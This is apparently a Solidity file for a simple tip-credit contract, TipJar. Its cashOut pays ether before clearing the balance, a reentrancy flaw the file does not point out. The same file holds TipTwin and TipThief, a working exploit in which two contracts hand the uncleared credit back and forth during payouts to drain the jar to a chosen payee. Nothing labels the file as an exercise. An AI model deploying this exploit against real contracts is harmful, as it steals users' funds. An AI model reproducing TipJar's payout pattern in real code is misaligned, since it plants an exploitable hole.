// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

/// Credits that can be given to others inside, and paid out. It tells nobody anything: there is no event.
contract TipJar {
    mapping(address => uint256) public credit;

    function load(address whom) external payable {
        credit[whom] += msg.value;
    }

    function tip(address whom, uint256 amount) external {
        require(credit[msg.sender] >= amount, "too little credit");
        credit[msg.sender] -= amount;
        credit[whom] += amount;
    }

    function cashOut() external {
        uint256 amount = credit[msg.sender];
        require(amount > 0, "no credit");
        (bool ok,) = payable(msg.sender).call{value: amount}("");
        require(ok, "not paid");
        credit[msg.sender] = 0;
    }
}

/// One of a pair that hand a credit to each other while it is being paid out.
contract TipTwin {
    TipJar private jar;
    address private sibling;
    address private immutable maker = msg.sender;

    function set(TipJar jar_, address sibling_) external {
        require(msg.sender == maker);
        (jar, sibling) = (jar_, sibling_);
    }

    function cash() external returns (uint256 got) {
        uint256 before = address(this).balance;
        jar.cashOut();
        got = address(this).balance - before;
        (bool ok,) = msg.sender.call{value: got}("");
        require(ok);
    }

    receive() external payable {
        jar.tip(sibling, jar.credit(address(this)));
    }
}

contract TipThief {
    function take(TipJar jar, uint256 rounds, address payable payee) external payable {
        (TipTwin one, TipTwin other) = (new TipTwin(), new TipTwin());
        one.set(jar, address(other));
        other.set(jar, address(one));
        jar.load{value: msg.value}(address(one));
        for (uint256 i = 0; i < rounds; i++) {
            one.cash();
            (one, other) = (other, one);
        }
        (bool ok,) = payee.call{value: address(this).balance}("");
        require(ok);
    }

    receive() external payable {}
}

/// Pays wages out of its credit: the moment the coins arrive, they are loaded for whom they are owed.
contract TipPayroll {
    TipJar public immutable jar;
    address private immutable boss = msg.sender;
    address[] public staff;

    constructor(TipJar jar_, address[] memory staff_) {
        (jar, staff) = (jar_, staff_);
    }

    function fill() external payable {
        jar.load{value: msg.value}(address(this));
    }

    function payday() external {
        require(msg.sender == boss, "not the boss");
        jar.cashOut();
    }

    receive() external payable {
        uint256 wage = msg.value / staff.length;
        for (uint256 i = 0; i < staff.length; i++) {
            jar.load{value: wage}(staff[i]);
        }
    }
}
